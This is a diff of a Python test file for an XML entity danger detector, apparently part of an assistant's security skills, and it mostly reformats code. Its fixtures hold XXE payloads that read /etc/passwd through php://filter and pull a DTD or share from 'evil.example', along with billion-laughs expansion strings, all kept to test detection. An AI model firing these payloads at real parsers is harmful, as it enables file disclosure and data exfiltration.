@@ -8,8 +8,8 @@ import pytest
 
 from svc.assistant.findings import Severity
 from svc.assistant.skills.xml_entities import entity_dangers
-from tests.support.inline_analyst import ask
 from tests.support.carriers import document
+from tests.support.inline_analyst import ask
 
 
 def laughs(levels: int, width: int, *, reference: str = "&", declaration: str = "") -> str:
@@ -42,11 +42,14 @@ HELD = {
     "never used": (laughs(10, 10).replace("&e9;</a>", "</a>"), {"expansion"}),
     "one in itself": ("<!DOCTYPE a [<!ENTITY a 'x&a;'>]><a/>", {"recursion"}),
     "out of band": (
-        "<!DOCTYPE a [<!ENTITY % f SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>"
-        "<!ENTITY % d PUBLIC 'x' 'http://evil.example/e.dtd'>%d;]><a/>",
+        "<!DOCTYPE a [<!ENTITY % f SYSTEM 'php://filter/resource=/etc/passwd'>"
+        + "<!ENTITY % d PUBLIC 'x' 'http://evil.example/e.dtd'>%d;]><a/>",
         {"external_entity"},
     ),
-    "over lines": ('<!DOCTYPE a [\n<!ENTITY\n  x\n  SYSTEM\n  "\\\\evil.example\\share">\n]>\n<a>&x;</a>', {"external_entity"}),
+    "over lines": (
+        '<!DOCTYPE a [\n<!ENTITY\n  x\n  SYSTEM\n  "\\\\evil.example\\share">\n]>\n<a>&x;</a>',
+        {"external_entity"},
+    ),
     "XHTML": (
         '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
         set(),
